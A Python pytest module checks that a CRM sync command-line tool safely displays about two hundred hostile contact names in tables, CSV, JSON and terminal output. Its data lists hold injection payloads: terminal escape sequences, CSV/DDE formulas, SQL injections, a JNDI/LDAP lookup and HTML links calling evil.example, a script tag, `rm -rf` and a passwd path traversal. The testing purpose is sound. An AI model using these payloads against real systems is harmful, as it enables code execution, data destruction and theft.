"""Two hundred hostile names, pulled from both CRMs and shown: in tables, CSV and JSON none does harm."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterator

import pytest

from sync.cli.main import main
from tests.terminal import Terminal
from tests.unit.cli.test_clean import HOSTILE, harmless
from tests.unit.cli.test_on_sandbox import Site, made

TERMINAL = [f"\x1b[{code}" for code in ("2J", "H", "31m", "?25l", "1A", "6n", "200~", "0K", "s", "u")]
TERMINAL += ["\x1bP+q544e\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b]1337;File=:\x07", "\x1bc", "\x0e", "\x1b(0"]
DIRECTION = ["\u202egnp.exe", "\u202d", "\u2066a\u2069", "\u200fa", "\u200e", "\u061ca", "\u202aab\u202c"]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example";"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "%0A=1",
    "|calc",
    "＝1+1",
    "＠SUM(1)",
    "\t=1",
    " =1+1",
    "'=1",
]
QUERIES = [
    "'; DROP TABLE person; --",
    "' OR 1=1 --",
    '" OR ""="',
    "\\' OR Name LIKE '%",
    "%' ESCAPE '\\",
    "x' LIMIT 1 OFFSET 1 --",
    ":bind",
    "?",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "%(name)s",
    "{0.__class__}",
    "[[macro]]",
    "$1",
]
MARKUP = [
    "[red]red[/red]",
    "[/]",
    "[link=http://evil.example]x[/link]",
    ":smiley:",
    "<script>alert(1)</script>",
    "<!-- x -->",
    "](http://evil.example)",
    "`rm -rf`",
    "&lt;b&gt;",
    "<https://evil.example|slack>",
    "<!channel>",
    "@here",
]
LETTERS = [
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "e\u0301\u0301\u0301",
    "Z̸a̷l̴g̵o̶",
    "日本語",
    "Ｆｕｌｌ",
    "ا‌ب",
    "\u200b",
    "\u00a0x",
    "\u3000x",
    "ﬀ",
    "İi",
    "ß",
    "\U0001d518",
    "\ufffd",
    "\ue000",
]
SHAPES = [
    "x" * 80,
    "x" * 79 + "\u0301",
    "-" * 40,
    "null",
    "None",
    "nan",
    "true",
    "0",
    "-0",
    "1e999",
    "../../etc/passwd",
]
SHAPES += [
    "C:\\x",
    "~",
    "$HOME",
    "--help",
    "-n",
    "a,b",
    'a"b',
    "a;b",
    "a\nb",
    "a\r\nb",
    "a\u2028b",
    "a\x0bb",
    "a\x85b",
]
SHAPES += [f"c{chr(code)}d" for code in (*range(1, 32), *range(127, 160))]
NAMES = list(
    dict.fromkeys(
        name
        for name in (*HOSTILE, *TERMINAL, *DIRECTION, *FORMULAS, *QUERIES, *MARKUP, *LETTERS, *SHAPES)
        if not any("\ud800" <= one <= "\udfff" for one in name)  # no CRM can send half a character
    )
)
NAMES += [f"a{sequence}{form}" for sequence in TERMINAL for form in ("=1", "[b]")][: max(0, 200 - len(NAMES))]
RUNS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "＝", "＠")


ONCE = pytest.mark.sqlite("what is shown does not depend on the database; NUL on PostgreSQL has its own test")


@pytest.fixture(scope="module")
def synced(tmp_path_factory: pytest.TempPathFactory, database: str) -> Iterator[Site]:
    """A site in which everybody is called something hostile, in both CRMs."""
    for site in made(tmp_path_factory.mktemp("hostile"), people=20):
        for number, name in enumerate(NAMES):
            values = {"LastName": name, "Company": name, "Status": "New", "Email": f"lead{number}@x.example"}
            site.sandbox.create("salesforce", "Lead", values, author="seed")
            contact = {"firstname": name, "lastname": name, "company": name, "jobtitle": name}
            site.sandbox.create("hubspot", "contacts", {**contact, "email": f"contact{number}@x.example"})
        assert site.run("sync").code in (0, 3, 6)
        yield site


def test_there_are_two_hundred() -> None:
    assert len(NAMES) >= 200
    assert len({*NAMES}) == len(NAMES)


@ONCE
def test_lists_show_them_all_and_harm_nothing(synced: Site) -> None:
    people = synced.json("people")["people"]
    addresses = {email for one in people for email in one["emails"]}
    assert {
        f"{kind}{number}@x.example" for kind in ("lead", "contact") for number in range(len(NAMES))
    } <= addresses
    for argv in (
        ["people"],
        ["people", "--json"],
        ["people", "--jsonl"],
        ["conflicts", "list"],
        ["funnel", "--by", "source"],
    ):
        ran = synced.run(*argv)
        assert harmless((ran.out + ran.err).replace("\n", "")), argv
    table = synced.run("people").out
    assert len(table.splitlines()) == len(people) + 1
    assert "[red]red[/red]" in table


@ONCE
def test_a_spreadsheet_runs_none_of_them(synced: Site) -> None:
    text = synced.run("people", "--csv", "-").out
    assert harmless(text.replace("\n", ""))
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1
    for row in rows[1:]:
        for value in (row[1], row[3]):
            assert not value.lstrip(" ").startswith(RUNS)


@ONCE
def test_single_people_and_logs_are_harmless(synced: Site) -> None:
    for number in range(0, len(NAMES), 25):
        who = f"contact{number}@x.example"
        for argv in (("person", "show", who), ("person", "timeline", who), ("privacy", "find", who)):
            ran = synced.run(*argv, "-v")
            assert ran.code == 0
            assert harmless((ran.out + ran.err).replace("\n", "")), argv
        exported = synced.run("privacy", "export", who).out
        assert harmless(exported.replace("\n", ""))
        json.loads(exported)
    for name in NAMES[::9]:
        ran = synced.run("person", "show", name) if not name.startswith("-") else synced.run("status")
        assert ran.code in (0, 2, 7)
        assert harmless((ran.out + ran.err).replace("\n", ""))


@ONCE
@pytest.mark.parametrize(
    "argv", [("people",), ("person", "show", "contact7@x.example"), ("person", "timeline", "lead9@x.example")]
)
def test_a_terminal_gets_text_and_our_own_colours_alone(
    synced: Site, monkeypatch: pytest.MonkeyPatch, argv: tuple[str, ...]
) -> None:
    out, err = Terminal(), Terminal()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "120")
    code = main(["--config-dir", str(synced.folder), *argv], world=synced.world, environ=synced.environ)
    assert code == 0
    assert (out.refused, err.refused) == ([], [])
    assert len(out.lines) > (len(NAMES) if argv == ("people",) else 0)
